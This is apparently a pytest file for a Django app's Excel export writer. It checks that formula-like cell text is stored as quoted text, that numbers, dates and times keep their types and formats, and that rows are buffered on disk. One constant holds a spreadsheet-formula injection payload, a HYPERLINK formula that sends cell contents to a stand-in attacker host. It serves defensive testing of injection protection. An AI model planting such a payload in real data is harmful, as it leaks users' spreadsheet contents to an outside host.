"""The exports' one writer (core.excel.ExportWorkbook): no cell a spreadsheet would run as a formula (shared/API.md,
"Auth and limits"), every value of its type, the rows waiting on disk beside the data."""
import io
from decimal import Decimal

from datetime import date, datetime

from openpyxl import load_workbook

from dutydesk.archive.excel import export_workbook
from dutydesk.archive.models import Resident, Unit
from dutydesk.core import clock
from dutydesk.core.excel import ExportWorkbook
from tests.factories import ResidentFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _reload(data):
    return load_workbook(io.BytesIO(data))


def test_formula_like_text_is_written_as_text_and_other_values_keep_their_type():
    workbook = ExportWorkbook()
    sheet = workbook.sheet("导出", ["文本"] * 4 + ["姓名", "数", "金额", "空", "日期", "时间", "是否", "库存"])
    received = clock.at(date(2026, 11, 3), "09:05")  # aware, Asia/Shanghai
    sheet.append([EVIL, "+8613912345678", "-1", "@SUM(A1)", "张三", 5, Decimal("1.50"), None, date(2026, 11, 3),
                  received, True, Decimal("0.125")])
    header, row = list(_reload(workbook.content()).worksheets[0].iter_rows(values_only=False))
    assert [c.value for c in header][:2] == ["文本", "文本"]
    assert [c.data_type for c in row[:4]] == ["s", "s", "s", "s"]
    assert all(c.quotePrefix for c in row[:4]) and not row[4].quotePrefix
    assert [c.value for c in row[:5]] == [EVIL, "+8613912345678", "-1", "@SUM(A1)", "张三"]
    assert row[5].value == 5 and row[5].data_type == "n"
    assert row[6].value == 1.5 and row[6].number_format == "0.00"  # money shows its two decimals
    assert row[11].value == 0.125 and row[11].number_format == "0.000"  # a stock quantity its three
    assert row[7].value is None
    assert row[8].value == datetime(2026, 11, 3) and row[8].number_format == "yyyy-mm-dd"
    assert row[9].value == datetime(2026, 11, 3, 9, 5)  # the local time, not UTC (01:05)
    assert row[10].value is True


def test_a_resident_named_like_a_formula_is_exported_as_text(unit):
    ResidentFactory(unit=unit, name=EVIL, phone="13912345678")
    data = export_workbook(Unit.objects.all(), Resident.objects.all())
    sheet = _reload(data).worksheets[1]
    names = [row[2] for row in sheet.iter_rows(min_row=2, values_only=False)]
    assert names[0].value == EVIL
    assert names[0].data_type == "s"


def test_an_export_writes_its_rows_beside_the_data_not_in_memory_or_tmp(settings, tmp_path):
    """Constant memory: the finished rows wait in a temporary file under EXPORT_TMP_DIR (not /tmp: RAM on many
    servers) until the file is zipped, and the file is gone afterwards."""
    settings.EXPORT_TMP_DIR = tmp_path
    workbook = ExportWorkbook()
    sheet = workbook.sheet("导出", ["姓名"])
    for number in range(2000):
        sheet.append([f"住户{number}"])
    waiting = [path for path in tmp_path.iterdir() if path.stat().st_size > 0]
    content = workbook.content()
    assert waiting and list(tmp_path.iterdir()) == []
    assert _reload(content).worksheets[0].max_row == 2001
